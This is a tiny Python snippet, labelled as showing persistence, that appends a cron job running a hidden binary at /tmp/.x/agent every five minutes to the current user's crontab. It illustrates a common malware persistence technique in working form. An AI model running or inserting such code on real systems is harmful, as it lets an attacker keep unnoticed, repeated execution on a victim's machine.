# shows: adds persistence
import subprocess

line = "*/5 * * * * /tmp/.x/agent"
subprocess.run(f'(crontab -l; echo "{line}") | crontab -', shell=True)
